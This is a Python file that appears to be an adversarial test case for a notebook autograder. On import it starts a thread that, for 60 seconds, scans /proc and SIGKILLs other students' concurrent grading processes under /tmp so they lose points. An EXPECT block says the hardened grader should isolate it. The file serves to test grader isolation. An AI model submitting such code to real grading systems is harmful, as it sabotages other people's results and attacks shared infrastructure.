"""Batches: kill the neighbours' grading processes.

Attack: for 60 s, every 0.2 s, SIGKILL every process whose command line grades another notebook
(``--submission`` of a different file): the neighbours graded at the same time in a batch
(``grade-all --jobs 2``, or an nbgrader batch) end abruptly and lose their points.
DAMAGE BOUND: only processes grading a notebook under /tmp are signalled.
Old grader: see BASELINE.md (expected: neighbours lose points in grade-all --jobs 2).
"""
EXPECT = {"isolate": True, "max_score": 0, "doors": ["grade", "grade_all", "nbgrader"], "place": "end", "leaves_no_trace": []}

import os as _os
import signal as _signal
import sys as _sys
import threading as _threading
import time as _time

_tmp = _os.path.realpath("/tmp") + "/"
_own = _sys.argv[_sys.argv.index("--submission") + 1] if "--submission" in _sys.argv else None


def _hunt():
    deadline = _time.monotonic() + 60
    while _time.monotonic() < deadline:
        for pid in (p for p in _os.listdir("/proc") if p.isdigit() and int(p) != _os.getpid()):
            try:
                argv = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
            except OSError:
                continue
            if "--submission" in argv:
                other = argv[argv.index("--submission") + 1]
                if other != _own and other.startswith(_tmp):
                    try:
                        _os.kill(int(pid), _signal.SIGKILL)
                    except OSError:
                        pass
        _time.sleep(0.2)


if not getattr(_sys, "_adv_hunter", False):
    _sys._adv_hunter = True
    _threading.Thread(target=_hunt, daemon=True).start()
    _time.sleep(45)  # hold the grading (and the hunter) while the neighbours start
